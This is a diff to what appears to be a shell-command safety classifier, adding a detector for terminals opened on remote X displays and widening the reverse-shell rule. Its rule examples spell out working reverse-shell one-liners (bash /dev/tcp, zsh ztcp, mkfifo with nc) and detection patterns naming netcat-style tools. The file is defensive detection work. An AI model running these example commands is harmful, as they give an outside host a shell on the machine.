@@ -418,6 +418,21 @@ def _curl_egress(cmd: Command) -> bool:
     return hosts is None or not all(_loopback(host) for host in hosts)
 
 
+_REMOTE_DISPLAY = re.compile(r"(?!(?:localhost|127\.0\.0\.1|unix)?:)[^:/\s]{1,253}:\d{1,4}(?:\.\d{1,2})?")
+
+
+def _remote_display(c) -> bool:
+    """An X display on another host (`HOST:N`): a terminal opened there gives its user a shell here."""
+    values = [c.env.get("DISPLAY", "")]
+    args = list(c.args)
+    for i, arg in enumerate(args):
+        if arg in ("-display", "--display", "-d") and i + 1 < len(args):
+            values.append(args[i + 1])
+        elif arg.startswith("--display="):
+            values.append(arg.partition("=")[2])
+    return any(_REMOTE_DISPLAY.fullmatch(v) for v in values if v)
+
+
 RULES = [
     rule("net.exfil-secret", CATASTROPHIC, "net creds", "sends keys, credentials, password hashes or the environment off the machine",
          names=" ".join(sorted(SENDERS | {"xargs", "parallel"})), tier=IRREVERSIBLE, test=exfiltrates, cite=True,
@@ -484,12 +499,16 @@ RULES = [
                             for r in c.redirects),
          examples=["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], counter=["bash -c 'echo hi'"]),
     rule("net.reverse-shell-raw", CATASTROPHIC, "net exec", "a script wires a shell to a network connection",
-         raw="always", tier=IRREVERSIBLE, needles="ztcp mkfifo |",
-         args=r"ztcp\b[^\n]{0,200}\b(?:zsh|bash|sh)\s{0,4}(?:-i\s{0,4})?[<>0-9]{0,2}&|mkfifo[^\n]{0,200}(?:\b(?:nc|ncat|netcat|telnet|openssl)\b[^\n]{0,200}\bsh\b|\bsh\b[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl)\b)"
+         raw="always", tier=IRREVERSIBLE, needles="ztcp mkfifo mknod |",
+         args=r"ztcp\b[^\n]{0,200}\b(?:zsh|bash|sh)\s{0,4}(?:-i\s{0,4})?[<>0-9]{0,2}&|(?:mkfifo|mknod)[^\n]{0,200}(?:\b(?:nc|ncat|netcat|telnet|openssl)\b[^\n]{0,200}\b(?:ba|z|da|k)?sh\b|\b(?:ba|z|da|k)?sh\b[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl)\b)"
               r"|\b(?:nc|ncat|netcat|telnet|openssl)\b[^|\n]{0,200}\|\s{0,4}(?:/bin/)?(?:ba|z|da)?sh\b[^|\n]{0,40}\|\s{0,4}(?:nc|ncat|netcat|telnet|openssl)\b",
          examples=["zsh -c 'zmodload zsh/net/tcp;ztcp a.example 1;zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc a.example 1 >/tmp/f"],
          counter=["zsh -c 'echo hi'"]),
+    rule("net.remote-display", CATASTROPHIC, "net exec", "opens a terminal window on another machine's X server",
+         names="xterm uxterm rxvt urxvt aterm lxterm konsole gnome-terminal xfce4-terminal", tier=IRREVERSIBLE,
+         test=lambda c: _remote_display(c),
+         examples=["xterm -display 10.0.0.1:1", "DISPLAY=a.example:0 xterm"], counter=["xterm -display :0", "xterm"]),
     rule("net.dev-tcp", DANGEROUS, "net", "opens a raw network connection through /dev/tcp", tier=IRREVERSIBLE, scope="redirect",
          test=lambda c: any(_DEV_TCP.match(r.target) for r in c.redirects),
          examples=["echo hi > /dev/tcp/a.example/80"], counter=["echo hi > /dev/null"]),
